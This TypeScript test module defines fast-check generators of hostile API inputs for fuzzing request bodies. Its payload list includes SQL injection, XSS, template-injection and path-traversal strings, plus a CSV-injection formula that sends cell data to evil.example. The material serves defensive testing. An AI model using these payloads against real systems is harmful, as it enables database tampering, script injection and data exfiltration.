// fast-check generators of hostile input: strings that break naive SQL, HTML, Unicode or length
// handling, numbers at and beyond every edge, values of the wrong type, deep nesting, and mutations
// of a valid body (a field replaced, removed or added). Valid-but-nasty strings (`nastyText`) are
// what a careful API must accept and give back byte for byte.
import fc from 'fast-check';

/** Number of generated bodies per route (HOSTILE_RUNS, default 200). */
export const RUNS = Math.max(1, Number(process.env.HOSTILE_RUNS ?? 200));

/** The run's seed: HOSTILE_SEED replays a run; every failure report names the seed it used. */
export const SEED = process.env.HOSTILE_SEED ? Number(process.env.HOSTILE_SEED) : Math.floor(Math.random() * 2 ** 31);

/** Strings that have broken real systems: injection, markup, templates, paths, odd Unicode. */
export const PAYLOADS: readonly string[] = [
  `'); DROP TABLE waste_records; --`,
  `' OR '1'='1`,
  // spreadsheet formulas (CSV injection): the export must guard them, the import must give them back
  `=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
  `+SUM(1,2)`,
  `@SUM(A1:A9)`,
  `\t=1+1`,
  `\r=1+1`,
  `'=1+1`,
  `''-1`,
  `" OR 1=1 --`,
  `1; SELECT pg_sleep(10)`,
  `$1`,
  `\\`,
  `\\x00`,
  `E'\\x41'`,
  `<script>alert(1)</script>`,
  `<img src=x onerror=alert(1)>`,
  `"><svg/onload=alert(1)>`,
  `&lt;b&gt;&amp;`,
  '${7*7}',
  '{{7*7}}',
  '#{7*7}',
  `../../../../etc/passwd`,
  `%00%2e%2e%2f`,
  `__proto__`,
  `constructor`,
  `null`,
  `undefined`,
  `NaN`,
  `-Infinity`,
  `1e309`,
  `-0`,
  `0x1F`,
  `  padded  `,
  `\t\r\n`,
  `\u202eRTL override`,
  `zero\u200bwidth\u200djoiner`,
  `\ufeffBOM`,
  `e\u0301 combining`,
  `👩‍👩‍👧‍👦 family`,
  `🚑🏥💉`,
  `Ⅻ ﬁ ﷽`,
  `ZA̡͊͠͝LGΌ`,
  `\u0007bell\u001bescape\u007fdel`,
  `line\u2028separator\u2029para`,
  `𝕳𝖔𝖘𝖕𝖎𝖙𝖆𝖑`,
  `中文 العربية עברית`,
];

const hasNul = (s: string) => s.includes('\u0000');
const hasLoneSurrogate = (s: string) =>
  /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(s);
/** Length as PostgreSQL's char_length counts it: code points. */
export const codePoints = (s: string) => [...s].length;

/**
 * Text a careful API must store and give back exactly: any Unicode but NUL and lone surrogates
 * (which no UTF-8 database can hold), between `min` and `max` code points.
 */
export function nastyText(min: number, max: number): fc.Arbitrary<string> {
  const short = Math.min(max, 60);
  return fc
    .oneof(
      { weight: 3, arbitrary: fc.string({ unit: 'binary', minLength: min, maxLength: short }) },
      { weight: 2, arbitrary: fc.string({ unit: 'grapheme', minLength: min, maxLength: short }) },
      { weight: 2, arbitrary: fc.constantFrom(...PAYLOADS) },
      {
        weight: 1,
        arbitrary: fc
          .array(fc.constantFrom(...PAYLOADS), { minLength: 1, maxLength: 4 })
          .map((parts) => parts.join(' ')),
      },
      // exactly at the limit, in one-, two- and four-byte characters
      { weight: 1, arbitrary: fc.constantFrom('x', 'é', '€', '🚑', "'", '<').map((c) => c.repeat(max)) },
    )
    .filter((s) => !hasNul(s) && !hasLoneSurrogate(s) && codePoints(s) >= min && codePoints(s) <= max);
}

/** Strings no valid field should hold: NUL, lone surrogates, just over a limit, or padded to fool a length check. */
export const invalidText = (max: number): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom('\u0000', 'a\u0000b', '\ud800', 'x\udfff', '\udc00\ud800'),
    fc.constantFrom('x', 'é', '🚑').map((c) => c.repeat(max + 1)),
    // variation selectors: a length check that skips them lets the database see more characters
    fc.integer({ min: 1, max: 20 }).map((n) => 'x'.repeat(Math.max(1, max - 2)) + '\ufe0f'.repeat(n + 2)),
    fc.constant('x'.repeat(100_000)),
    fc.constant(''),
    fc.constant(' '),
  );

/** Numbers at and beyond every edge; JSON has no NaN or Infinity (they become null). */
export const edgeNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(0, -0, 1, -1, 0.1, 0.25, 4.9e-324, -4.9e-324, 1e-7, 1e21, -1e21, 1e308, -1e308, Number.MAX_VALUE),
  fc.constantFrom(
    Number.MAX_SAFE_INTEGER,
    Number.MAX_SAFE_INTEGER + 2,
    -Number.MAX_SAFE_INTEGER,
    2 ** 31,
    -(2 ** 31) - 1,
    2 ** 63,
  ),
  fc.constantFrom(4, 5, 10, 11, 12, 100, 101, 120, 1440, 1441, 10080, 10081, 100000, 100001, 8000, 8001),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer({ min: -1_000_000, max: 1_000_000 }),
);

/** Anything JSON can say, the wrong type for most fields. */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, false, '', [], {}, [null], { '': '' }),
  edgeNumber,
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.constantFrom(...PAYLOADS),
  fc.jsonValue({ maxDepth: 3 }),
  fc.array(edgeNumber, { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 4 }),
);

/** A value wrapped in `depth` arrays or objects. */
export const nested = (depth: number, leaf: unknown = 'deep'): unknown => {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = i % 2 ? [value] : { a: value };
  return value;
};

/** Any value a field could be sent: wrong types, edge numbers, bad text, deep nesting. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: anyJson },
  { weight: 2, arbitrary: invalidText(200) },
  { weight: 2, arbitrary: nastyText(0, 60) },
  { weight: 1, arbitrary: fc.integer({ min: 5, max: 400 }).map((d) => nested(d)) },
  // dates that are not, or are out of every range
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '2025-02-29',
      '2024-02-30',
      '2025-13-01',
      '2025-00-10',
      '0000-01-01',
      '1999-12-31',
      '9999-12-31',
      '275760-09-13',
      '2025-1-1',
      '2025-01-01T00:00:00Z',
      '2025-01',
      '2025-13',
      '20250101',
      'yesterday',
    ),
  },
  {
    weight: 1,
    arbitrary: fc.oneof(
      fc.uuid(),
      fc.constantFrom('00000000-0000-0000-0000-000000000000', 'not-a-uuid', '6F1C1B8E-0000-4000-8000-000000000000'),
    ),
  },
);

/** Keys an attacker adds: prototype pollution, lookalikes of real fields, junk. */
export const hostileKey = (known: readonly string[]): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom(
      '__proto__',
      'constructor',
      'prototype',
      'id',
      'trustId',
      'createdBy',
      'passwordHash',
      'role',
      'version',
      'isAdmin',
    ),
    known.length ? fc.constantFrom(...known).map((k) => `${k} `) : fc.constant('x '),
    known.length ? fc.constantFrom(...known).map((k) => k.toUpperCase()) : fc.constant('X'),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }),
  );

type Path = (string | number)[];

/** Every path to a leaf or a container of a JSON value, the value itself first. */
export function pathsOf(value: unknown, prefix: Path = []): Path[] {
  const paths: Path[] = [prefix];
  if (Array.isArray(value)) value.forEach((v, i) => paths.push(...pathsOf(v, [...prefix, i])));
  else if (value && typeof value === 'object')
    for (const [k, v] of Object.entries(value)) paths.push(...pathsOf(v, [...prefix, k]));
  return paths;
}

const clone = <T>(value: T): T => (value === undefined ? value : JSON.parse(JSON.stringify(value)));

function setAt(root: unknown, path: Path, value: unknown): unknown {
  if (path.length === 0) return value;
  const copy = clone(root) as Record<string | number, unknown>;
  let node = copy;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  node[path[path.length - 1]] = value;
  return copy;
}

function removeAt(root: unknown, path: Path): unknown {
  if (path.length === 0) return undefined;
  const copy = clone(root) as Record<string | number, unknown>;
  let node = copy;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string | number, unknown>;
  const last = path[path.length - 1];
  if (Array.isArray(node)) node.splice(last as number, 1);
  else delete node[last];
  return copy;
}

function valueAt(root: unknown, path: Path): unknown {
  let node = root as Record<string | number, unknown>;
  for (const key of path) node = node?.[key] as Record<string | number, unknown>;
  return node;
}

/** What a mutation did, for the report of a failure. */
export interface Mutated {
  body: unknown;
  how: string;
}

/**
 * A valid body, or one hostile change of it: a field replaced by anything, by nasty text of the
 * right type, by an edge number; a field removed; a key added; the whole body replaced.
 * `limits` gives each string field's maximum length (code points) for the nasty-text case.
 */
export function hostileBodies(
  valid: fc.Arbitrary<unknown>,
  limits: Record<string, number> = {},
): fc.Arbitrary<Mutated> {
  return valid.chain((body) => {
    const paths = pathsOf(body);
    const inner = paths.filter((p) => p.length > 0);
    const strings = inner.filter((p) => typeof valueAt(body, p) === 'string');
    const numbers = inner.filter((p) => typeof valueAt(body, p) === 'number');
    const objects = paths.filter((p) => {
      const v = valueAt(body, p);
      return v !== null && typeof v === 'object' && !Array.isArray(v);
    });
    const known = inner.map((p) => String(p[p.length - 1]));
    const label = (p: Path) => p.join('.') || '(body)';
    const options: fc.Arbitrary<Mutated>[] = [fc.constant({ body, how: 'valid' })];
    if (inner.length) {
      options.push(
        fc
          .tuple(fc.constantFrom(...inner), hostileValue)
          .map(([p, v]) => ({ body: setAt(body, p, v), how: `${label(p)} := hostile` })),
        fc.constantFrom(...inner).map((p) => ({ body: removeAt(body, p), how: `${label(p)} removed` })),
      );
    }
    if (strings.length) {
      const nasty = fc.constantFrom(...strings).chain((p) => {
        const max = limits[String(p[p.length - 1])] ?? 120;
        return fc
          .oneof({ weight: 3, arbitrary: nastyText(1, max) }, { weight: 1, arbitrary: invalidText(max) })
          .map((v) => ({ body: setAt(body, p, v), how: `${label(p)} := text` }));
      });
      options.push(nasty, nasty);
    }
    if (numbers.length) {
      options.push(
        fc
          .tuple(fc.constantFrom(...numbers), edgeNumber)
          .map(([p, v]) => ({ body: setAt(body, p, v), how: `${label(p)} := number` })),
      );
    }
    if (objects.length) {
      options.push(
        fc
          .tuple(fc.constantFrom(...objects), hostileKey(known), hostileValue)
          .map(([p, k, v]) => ({ body: setAt(body, [...p, k], v), how: `${label([...p, k])} added` })),
      );
    }
    options.push(anyJson.map((v) => ({ body: v, how: 'whole body := anything' })));
    return fc.oneof(...options);
  });
}
